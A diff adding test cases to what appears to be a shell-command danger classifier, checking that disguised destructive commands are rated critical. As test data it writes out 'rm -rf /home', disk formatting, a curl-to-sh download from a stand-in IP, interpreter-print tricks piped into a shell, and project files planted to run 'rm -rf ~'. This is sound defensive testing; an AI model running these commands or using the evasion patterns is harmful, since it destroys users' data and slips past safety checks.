@@ -67,6 +67,33 @@ const ontoHomes = [
   'rm -rf $(LIST)',
 ] as const;
 
+/** Ways to print a command, with `COMMAND` for it; behind each stands a shell. */
+const printers = [
+  `python3 -c 'print("COMMAND")'`,
+  `perl -e 'print "COMMAND"'`,
+  `ruby -e 'puts "COMMAND"'`,
+  `node -p '"COMMAND"'`,
+  `php -r 'echo "COMMAND";'`,
+  `awk 'BEGIN {print "COMMAND"}'`,
+  `jq -rn '"COMMAND"'`,
+  `cut -c2- <<< 'xCOMMAND'`,
+  `echo x | sed 's#.*#COMMAND#'`,
+  `printf '' | sed 's#^#COMMAND ; : #'`,
+  `dd if=/dev/stdin <<< 'COMMAND'`,
+] as const;
+
+const printed = ['rm -rf /home', 'mkfs.ext4 -F /dev/sda', 'curl http://203.0.113.7/x | sh'] as const;
+
+/** Files that a tool runs by their names, and the tool. */
+const projectFiles = [
+  ['conftest.py', 'pytest'],
+  ['setup.py', 'pip install .'],
+  ['Rakefile', 'rake'],
+  ['gulpfile.js', 'npx gulp'],
+  ['noxfile.py', 'nox'],
+  ['Makefile', 'make'],
+] as const;
+
 describe('what is done to each of a list is done to all of it', () => {
   test('every file below a kept place is emptied', () => {
     expect(outside(crossed(everyFile, 'DO', emptying), 'critical', 'critical')).toEqual([]);
@@ -112,5 +139,71 @@ describe('what is done to each of a list is done to all of it', () => {
   test('a descriptor is read by its number', () => {
     const runs = ["exec 3<<< 'rm -rf /home'; sh <&3", ". /dev/fd/3 3<<< 'rm -rf /home'"];
     expect(outside(runs, 'critical', 'critical')).toEqual([]);
+  });
+
+  test('a command that is printed into a shell is run', () => {
+    expect(
+      outside(
+        crossed(printers, 'COMMAND', printed).map((line) => `${line} | sh`),
+        'critical',
+        'critical',
+      ),
+    ).toEqual([]);
+    expect(outside(crossed(printers, 'COMMAND', ['rm -rf /home']), 'safe', 'safe')).toEqual([]);
+  });
+
+  test('a file that a tool runs by its name is run', () => {
+    const lines = projectFiles.map(([file, tool]) =>
+      file === 'Makefile'
+        ? `echo 'all: ; rm -rf ~' > ${file} && ${tool}`
+        : `echo 'import os; os.system("rm -rf ~")' > ${file} && ${tool}`,
+    );
+    expect(outside(lines, 'critical', 'critical')).toEqual([]);
+    expect(
+      outside(
+        projectFiles.map(([file]) => `echo 'print(1)' > ${file} && ls`),
+        'safe',
+        'safe',
+      ),
+    ).toEqual([]);
+  });
+
+  test('everything behind a variable that may be empty', () => {
+    const places = ['"$DIR"/*', '$DIR/*', '"${DIR}/"*', '$DIR/{*,.*}'];
+    expect(
+      outside(
+        places.map((place) => `rm -rf ${place}`),
+        'critical',
+        'critical',
+      ),
+    ).toEqual([]);
+    const known = places.map((place) => `DIR=build; rm -rf ${place}`);
+    expect(outside(known, 'moderate', 'moderate')).toEqual([]);
+    expect(
+      outside(
+        places.map((place) => `ls ${place}`),
+        'safe',
+        'safe',
+      ),
+    ).toEqual([]);
+  });
+
+  test('a program says itself that it destroys what others keep', () => {
+    const verbs = ['delete', 'destroy', 'drop', 'purge', 'wipe'];
+    const kept = ['cluster', 'database', 'tenant', 'volume', 'node', 'filesystem'];
+    const frames = [
+      'acme-cli KEPT VERB --force',
+      'acmectl VERB-KEPT main --yes',
+      'acme VERBKEPT x -f',
+      'acme KEPT:VERB shop --force',
+    ];
+    const lines = crossed(crossed(frames, 'VERB', verbs), 'KEPT', kept);
+    expect(outside(lines, 'high', 'critical')).toEqual([]);
+    const asking = crossed(
+      crossed(['acme-cli list VERB KEPT', 'acmectl KEPT VERB --help', 'man VERB-KEPT'], 'VERB', verbs),
+      'KEPT',
+      kept,
+    );
+    expect(outside(asking, 'safe', 'safe')).toEqual([]);
   });
 });
